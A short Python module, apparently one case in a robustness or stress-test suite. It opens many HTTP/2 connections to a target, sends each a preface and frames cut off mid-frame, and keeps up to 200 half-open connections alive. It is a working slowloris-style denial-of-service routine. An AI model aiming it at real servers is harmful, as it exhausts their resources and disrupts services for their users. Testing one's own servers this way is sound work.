"""Connections that end in the middle of a frame, and are closed or left."""

from cases import SOURCE, going
from http2 import HEADERS, PREFACE, SETTINGS, call_headers, connect, frame

SLICE = True


def attack(target, until):
    whole = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 4, 1, call_headers("/deut.wire.Nothing/Nothing"))
    left, cut = [], 0
    while going(until):
        cut = cut % len(whole) + 1
        try:
            one = connect(target, SOURCE)
            one.sendall(whole[:cut])
            left.append(one)
        except OSError:
            pass
        if len(left) > 200:
            left.pop(0).close()
    for each in left:
        each.close()
